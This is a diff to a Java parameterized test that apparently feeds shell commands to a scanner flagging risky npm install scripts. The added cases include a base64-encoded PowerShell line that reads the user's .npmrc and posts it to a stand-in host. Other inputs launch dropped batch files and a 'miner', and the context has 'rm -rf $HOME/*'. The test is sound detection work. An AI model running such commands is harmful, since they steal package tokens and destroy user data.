@@ -56,6 +56,15 @@ class CommandFactsTest {
                 Arguments.of("sh file", "sh ./scripts/../setup.sh", List.of("runs-file setup.sh @7")),
                 Arguments.of("direct file", "./bin/setup.sh --quiet", List.of("runs-file bin/setup.sh @7")),
                 Arguments.of("wrapped", "cross-env NODE_ENV=production node lib/postinstall.js", List.of("runs-file lib/postinstall.js @7")),
+                Arguments.of("encoded powershell reading npmrc", "powershell -enc " + Base64.getEncoder().encodeToString(
+                        "Get-Content $env:USERPROFILE\\.npmrc | iwr -Method Post https://x.example".getBytes(StandardCharsets.UTF_16LE)),
+                        List.of("encoded-payload base64 @7", "sensitive-path npmrc @7/1")),
+                Arguments.of("cmd /c batch file", "cmd /c setup.bat", List.of("inline-code cmd @7", "runs-file setup.bat @7")),
+                Arguments.of("cmd /c dropped batch file", "cmd /c \"%TEMP%\\sdd.bat\"", List.of("runs-file %TEMP%/sdd.bat @7")),
+                Arguments.of("start /B program", "start /B x.exe -k --tls", List.of("runs-file x.exe @7")),
+                Arguments.of("start with a title", "start \"\" x.bat", List.of("runs-file x.bat @7")),
+                Arguments.of("start /B node", "start /B node preinstall.js & node preinstall.js", List.of("runs-file preinstall.js @7")),
+                Arguments.of("start /MIN /D dir", "start /MIN /D lib \"my miner\" ./bin/run.cmd", List.of("runs-file bin/run.cmd @7")),
                 Arguments.of("publish", "npm publish --access public", List.of("npm-publish npm publish @7")),
                 Arguments.of("yarn publish", "yarn npm publish", List.of("npm-publish yarn publish @7")),
                 Arguments.of("rm home", "rm -rf $HOME/*", List.of("fs-destructive rm -r $HOME/* @7")),
@@ -84,7 +93,11 @@ class CommandFactsTest {
                 Arguments.of("env as a wrapper", "env NODE_ENV=production node server.js", List.of("runs-file server.js @7")),
                 Arguments.of("env alone is not sent", "env", List.of()),
                 Arguments.of("npm install a package", "npm install --no-save left-pad", List.of()),
-                Arguments.of("husky", "husky install", List.of()));
+                Arguments.of("husky", "husky install", List.of()),
+                Arguments.of("python -c is not JavaScript", "python3 -c \"exec(open('setup.py').read()); fetch = eval\"",
+                        List.of("inline-code python3 @7")),
+                Arguments.of("npm.cmd is npm", "npm.cmd install && node.exe build.js", List.of("runs-file build.js @7")),
+                Arguments.of("start a known program", "start /B cmd /c exit", List.of("inline-code cmd @7")));
     }
 
     @ParameterizedTest(name = "[{index}] {0}")
